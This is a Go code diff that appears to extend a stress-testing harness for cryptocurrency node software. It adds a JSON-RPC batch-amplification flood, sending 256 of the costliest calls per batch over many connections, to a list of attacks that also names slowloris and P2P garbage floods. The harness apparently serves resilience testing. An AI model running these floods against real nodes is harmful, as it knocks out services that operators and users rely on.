@@ -469,6 +469,66 @@ func expensiveRequests(f *facts, rng *rand.Rand) []request {
 	}
 }
 
+// batchRequests is one JSON-RPC batch of 256 of the costliest calls a
+// restricted RPC answers on /json_rpc (a header range of up to 1,000, the
+// output distribution from 0, the histogram of every amount), about 27 kB
+// of body (issue 33: gonerod made ~80 MB of answers of it; monerod refuses
+// any batch with -32700).
+func batchRequests(f *facts, _ *rand.Rand) []request {
+	calls := []string{
+		fmt.Sprintf(`"method":"getblockheadersrange","params":{"start_height":0,"end_height":%d}`, min(f.height, 1000)-1),
+		`"method":"get_output_distribution","params":{"amounts":[0],"from_height":0,"cumulative":true,"binary":false}`,
+		`"method":"get_output_histogram","params":{"amounts":[],"min_count":0,"max_count":0}`,
+	}
+	var b bytes.Buffer
+	b.WriteByte('[')
+	for i := range 256 {
+		if i > 0 {
+			b.WriteByte(',')
+		}
+		fmt.Fprintf(&b, `{"jsonrpc":"2.0","id":%d,%s}`, i, calls[i%len(calls)])
+	}
+	b.WriteByte(']')
+	return []request{{path: "/json_rpc", body: b.Bytes()}}
+}
+
+// batchFlood: conns keep-alive connections from as many addresses post
+// batchRequests' batch in a loop, each as soon as the last is answered,
+// reading every answer to the end; it reports the bytes of answers.
+func batchFlood(conns int) func(ctx context.Context, n *node, f *facts) string {
+	return func(ctx context.Context, n *node, f *facts) string {
+		var cnt counter
+		var answered atomic.Int64
+		body := batchRequests(f, nil)[0]
+		workers(ctx, conns, false, func(ctx context.Context, i int) {
+			c := clientFrom(attackerAddr(i, conns), 1, 30*time.Second)
+			defer c.CloseIdleConnections()
+			for ctx.Err() == nil {
+				req, err := http.NewRequestWithContext(ctx, "POST", n.url()+body.path, bytes.NewReader(body.body))
+				if err != nil {
+					return
+				}
+				resp, err := c.Do(req)
+				if err != nil {
+					if ctx.Err() == nil {
+						cnt.failed.Add(1)
+					}
+					continue
+				}
+				k, err := io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<30))
+				resp.Body.Close()
+				answered.Add(k)
+				if err == nil && resp.StatusCode == 200 {
+					cnt.ok.Add(1)
+				} else if ctx.Err() == nil {
+					cnt.failed.Add(1)
+				}
+			}
+		})
+		return fmt.Sprintf("batches (%d B of body): %s, %.1f MB of answers", len(body.body), cnt.String(), float64(answered.Load())/1e6)
+	}
+}
+
 // malformed are requests no node should serve: cut or nested JSON, wrong
 // types, binary garbage, a portable header followed by garbage.
 func malformedRequests(rng *rand.Rand) []request {
@@ -953,6 +1013,7 @@ func attacks() []attack {
 		{name: "rpc-addr-churn", what: "2,000 addresses, one connection each: one cheap request (/get_height) at once, its answer read, then idle until closed, reconnecting at once", run: addrChurn(2000)},
 		{name: "rpc-slowloris", what: "the 1,000 slowloris connections of rpc-slowloris-held, each slot reconnecting as soon as closed", run: slowloris(100, 10, true)},
 		{name: "rpc-expensive", what: "200 keep-alive connections from 50 addresses (4 each) looping the costliest restricted requests, each as soon as the last is answered", run: requestFlood(50, 4, expensiveRequests)},
+		{name: "rpc-batch", what: "20 keep-alive connections from 20 addresses posting a 256-call JSON-RPC batch of the costliest /json_rpc calls (header range, output distribution, histogram; ~27 kB), each as soon as the last is answered", run: batchFlood(20)},
 		{name: "rpc-malformed", what: "malformed bodies on 50 keep-alive connections, garbage heads on 50 reconnecting ones, 50 addresses", run: malformedFlood},
 		{name: "p2p-conn-flood", what: "200 P2P connections from 50 addresses, held until closed, reconnected at once", run: connFlood(p2pPort, 50, 4, true)},
 		{name: "p2p-garbage", what: "100 P2P connections from 50 addresses sending garbage or a 100 MB levin announce, reconnected at once", run: p2pGarbage},
